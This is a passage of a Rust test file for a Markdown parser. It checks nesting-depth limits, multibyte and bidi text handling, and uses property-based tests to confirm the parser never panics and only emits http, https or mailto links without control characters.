        assert!(visible_text(&quotes).contains(&format!("{} deep", ">".repeat(10_000 - MAX_DEPTH))));

        let lists = parse(&("- ".repeat(10_000) + "deep"));
        assert_eq!(container_depth(&lists), MAX_DEPTH);
        assert!(visible_text(&lists).contains("deep"));

        let stars = parse(&format!("{}a{}", "*".repeat(10_000), "*".repeat(10_000)));
        let [Block::Paragraph(inlines)] = stars.as_slice() else { panic!("{stars:?}") };
        assert!(inline_depth(inlines) <= MAX_DEPTH);
        assert_eq!(plain_text(inlines), "a");
    }

    #[test]
    fn multibyte_text_survives_everywhere() {
        check(&[
            ("# Überschrift 🦀", "<h1>Überschrift 🦀</h1>"),
            ("- 項目\n- элемент", "<ul><li>項目</li><li>элемент</li></ul>"),
            ("**ß**_ü_", "<p><b>ß</b><i>ü</i></p>"),
            ("ß_ü_", "<p>ß_ü_</p>"),
            ("[リンク](https://例え.jp/パス)", "<p><a href=https://例え.jp/パス>リンク</a></p>"),
            ("`🦀`", "<p><code>🦀</code></p>"),
            ("\u{202e}reversed", "<p>\u{202e}reversed</p>"),
            ("a\0b", "<p>a\u{fffd}b</p>"),
        ]);
    }

    fn collapse_ws(s: &str) -> String {
        s.split_whitespace().collect::<Vec<_>>().join(" ")
    }

    proptest! {
        #[test]
        fn never_panics_on_arbitrary_text(text in any::<String>()) {
            let blocks = parse(&text);
            assert_safe(&blocks, &text);
        }

        #[test]
        fn never_panics_on_markdown_soup(text in "[-*_~`#>|!\\[\\]()<>&;:/.\\\\ \n\t1a-zé\u{202e}]{0,300}") {
            let blocks = parse(&text);
            assert_safe(&blocks, &text);
            prop_assert!(container_depth(&blocks) <= MAX_DEPTH + 1);
        }

        #[test]
        fn hrefs_from_links_are_always_safe(dest in any::<String>(), text in "[a-z ]{0,10}") {
            let blocks = parse(&format!("[{text}]({dest}) <{dest}> ![{text}](<{dest}>) {dest}"));
            assert_safe(&blocks, &dest);
        }

        #[test]
        fn safe_href_output_is_safe(raw in any::<String>()) {
            if let Some(href) = safe_href(&raw) {
                prop_assert!(["http://", "https://", "mailto:"].iter().any(|p| href.starts_with(p)));
                prop_assert!(!href.chars().any(|c| c.is_ascii_control() || is_bidi_control(c)));
            }
        }

        #[test]
        fn plain_paragraphs_keep_all_their_text(
            lines in proptest::collection::vec("[a-zA-Zé漢🦀][a-zA-Z0-9é漢🦀 ,.;:?'\"()-]{0,40}", 1..6)
        ) {
            let text = lines.join("\n");
            let blocks = parse(&text);
            prop_assert_eq!(blocks.len(), 1);
            let Some(Block::Paragraph(inlines)) = blocks.first() else {
                return Err(TestCaseError::fail(format!("{blocks:?}")));
            };
            prop_assert_eq!(collapse_ws(&plain_text(inlines)), collapse_ws(&text));
        }

        #[test]
        fn words_survive_formatting(words in proptest::collection::vec("[a-z]{1,8}", 1..12), marks in proptest::collection::vec(0usize..6, 12)) {
            let wrapped: Vec<String> = words.iter().zip(marks.iter().cycle()).map(|(w, m)| match m {
                0 => format!("*{w}*"),
                1 => format!("**{w}**"),
                2 => format!("~~{w}~~"),
                3 => format!("`{w}`"),
                4 => format!("[{w}](https://x.example/{w})"),
                _ => w.clone(),
            }).collect();
            let blocks = parse(&wrapped.join(" "));
            prop_assert_eq!(collapse_ws(&visible_text(&blocks)), words.join(" "));
        }
    }
}
